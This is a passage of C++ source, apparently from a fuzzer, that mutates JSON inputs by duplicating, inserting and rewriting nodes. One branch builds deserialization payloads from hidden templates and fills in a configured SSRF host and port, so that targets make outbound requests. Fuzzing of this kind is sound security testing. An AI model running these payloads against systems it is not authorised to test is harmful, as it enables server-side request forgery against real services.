        if (!pieces_materialize(c, pc, st.p0, xr.p0, &ma, &la) || !pieces_materialize(c, pc, xr.p1, st.p1, &mb, &lb)) return 0;
        piece_put(out, nout, ma, la, 4); nout++;
        all(xr.p0, xr.p1);
        piece_put(out, nout, mb, lb, 4); nout++;
      }
      all(st.p1, npc);
      break;
    }
    case 4: {                                                              // json_insert :596-600
      uint32_t R1 = rng_erand(c.rng, NV), R2 = rng_erand(c.rng, NV);
      if (NV == 0) { c.status = CASE_CRASHED; return 0; }
      JR a = valnode(R1), b = valnode(R2);
      bool ls = listy(b.ctx);
      all(0, b.p0);
      if (!ls) lit(JL_LB, 1);
      all(b.p0, b.p1); lit(JL_COMMA, 1); all(a.p0, a.p1);
      if (!ls) lit(JL_RB, 1);
      all(b.p1, npc);
      break;
    }
    case 5: {                                                              // make_json_unserialize/0 :628-631
      D = -2;
      uint32_t k = rng_rand(c.rng, 6);
      const DevConfig& cfg = c.p->cfg;
      bptr b = ws_alloc(c, 1024);
      if (!b) return 0;
      uint32_t o = 0;
      if (l == 0) {
        const char* p = k == 0 ? c_js_pay0 : (k == 1 ? c_js_pay1 : (k == 2 ? c_js_pay2 : (k == 3 ? c_js_pay3 : (k == 4 ? c_js_pay4 : c_js_pay5))));
        for (; *p; p++) {
          if (p[0] == '~' && p[1] == 's') { o = put_str(b, o, "://"); o = put_str(b, o, cfg.ssrf_host); b[o++] = ':'; o = put_str(b, o, cfg.ssrf_port); b[o++] = '/'; p++; }
          else b[o++] = (uint8_t)*p;
        }
      }
      rawl = uni((uint32_t)__shfl((int)o, 0)); rawp = b; raw = true;
      wave_sync();
      break;
    }
    default: {                                                             // inner text / basic types :671-706: json_inner below
      all(0, npc);
      wave_sync();
      EH_G MuFrame* mu = mu_frame(c);
      if (!mu) return 0;
      int nfs;
      inner_table(c, true, mu, &nfs);
      if (l == 0) {
        mu->v[0] = (uint64_t)nd; mu->v[1] = nn; mu->v[2] = (uint64_t)out; mu->v[3] = nout; mu->v[4] = N; mu->v[5] = (uint32_t)D; mu->v[6] = meta0;
        mu->v[7] = (uint32_t)nfs; mu->v[8] = 0;
      }
      wave_sync();
      return json_inner(c, H, L);
    }
  }
  if (c.status != CASE_OK) return 0;
  wave_sync();
  bptr dst; uint64_t total;
  if (raw) { dst = rawp; total = rawl; }
  else return json_finish(c, H, L, out, nout, D, meta0);
  if ((uint32_t)total == L && wave_equal(dst, H, L)) { tr_drop_before(c, meta0); return -1; }   // NewBinStr =:= H: {fun json_mutate/2, Ll, NewMeta, -1} :722-723 - NewMeta ALONE
  c.r_kind = R_NEW; c.r_ptr = dst; c.r_len = (uint32_t)total; c.r_changed = 1;
  return D + (int)(total / (AVG_BLOCK_SIZE * 10));
}

}  // namespace eh
